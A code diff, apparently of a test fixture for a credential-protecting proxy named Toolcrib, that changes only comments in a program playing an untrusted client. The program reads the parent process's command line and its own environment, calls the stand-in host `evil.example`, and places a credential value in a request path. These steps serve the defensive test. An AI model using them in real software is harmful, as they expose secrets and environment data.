@@ -1,8 +1,8 @@
 /**
- * Entry: a program that knows nothing of Toolcrib but its environment. Makes
+ * Entry: a program that uses no Toolcrib code and only reads its environment. It sends
  * requests through `HTTPS_PROXY` with the placeholders of its environment, over
- * HTTP/1.1, HTTP/2 and by hand, and keeps every byte that it gets, with its
- * arguments, its environment and what it can see of its parent, in a file.
+ * HTTP/1.1, HTTP/2 and raw sockets. It writes every received byte to a file, with its
+ * arguments, its environment and the readable data of its parent process.
  *
  * Arguments: a plan (JSON, see `ForeignPlan`).
  */
@@ -14,15 +14,15 @@ import { connect as connectTcp, type Socket } from "node:net";
 import { connect as connectTls, type TLSSocket } from "node:tls";
 import { brotliDecompressSync, gunzipSync, inflateRawSync, inflateSync, zstdDecompressSync } from "node:zlib";
 
-/** What to ask for. */
+/** The requests to send. */
 export interface ForeignPlan {
   readonly file: string;
   readonly hosts: readonly string[];
-  /** Headers, and what stands around the path; `{ID}` is the placeholder of a credential. */
+  /** Headers, prefix of the path, and query; `{ID}` is the placeholder of a credential. */
   readonly headers: { readonly [name: string]: string };
   readonly pathPrefix: string;
   readonly query: string;
-  /** Modes to ask for; those that begin with `odd-` by hand. */
+  /** The mode of each request. Modes that start with `odd-` use raw sockets. */
   readonly modes: readonly string[];
 }
 
@@ -35,7 +35,7 @@ function keep(bytes: Uint8Array | string): void {
   writeSync(file, typeof bytes === "string" ? Buffer.from(bytes) : bytes);
 }
 
-/** Fill in the placeholders. */
+/** Replaces `{ID}` by the placeholder of the credential. */
 function fill(text: string): string {
   return text.replace(/\{(\w+)\}/g, (_, id: string) => process.env[`TOOLCRIB_CREDENTIAL_${id}`] ?? "");
 }
@@ -85,7 +85,7 @@ const decoders: { readonly [coding: string]: (bytes: Buffer) => Buffer } = {
   deflate: (bytes) => (((bytes[0] ?? 8) & 15) === 8 ? inflateSync(bytes) : inflateRawSync(bytes)),
 };
 
-/** Keep an answer, its body as it came and as it is read. */
+/** Keeps the head and the body of a response, the body both as received and decoded. */
 function keepAnswer(head: string, coding: string | undefined, pieces: readonly Buffer[]): void {
   const body: Buffer = Buffer.concat(pieces);
   keep(`\n${head}\n\n`);
@@ -159,7 +159,7 @@ function lowerCased(fields: { readonly [name: string]: string }): { readonly [na
   return Object.fromEntries(Object.entries(fields).map(([name, value]) => [name.toLowerCase(), value]));
 }
 
-/** Reads every byte of the response. Stops after a moment if it never ends. */
+/** Reads every byte of the response. Stops after a short time if the response never ends. */
 async function askByHand(host: string, mode: string): Promise<void> {
   const socket = await openTls(host, "http/1.1");
   const lines = Object.entries({ host, ...headers, connection: "close" }).map(
@@ -182,7 +182,7 @@ for (const name of [`/proc/${process.ppid}/cmdline`, "/proc/self/environ"]) {
   try {
     keep(readFileSync(name));
   } catch {
-    // Not on this system.
+    // This system has no /proc.
   }
 }
 const hostAt = (index: number): string => plan.hosts[index % plan.hosts.length] as string;
@@ -204,7 +204,7 @@ await Promise.all([
       await askHttp2(hostAt(at / 20), streams.slice(at, at + 20));
   })(),
 ]);
-// A host that is not on the list, and a placeholder where none may be.
+// A host that is not allowed, and a placeholder in a place that is not allowed.
 await askByHand("evil.example", "landing").catch((error) => keep(`${error.stack}`));
 const [known] = Object.entries(process.env).filter(([name]) => name.startsWith("TOOLCRIB_CREDENTIAL_"));
 await askHttp1(hostAt(0), `landing-${known?.[1]}`);
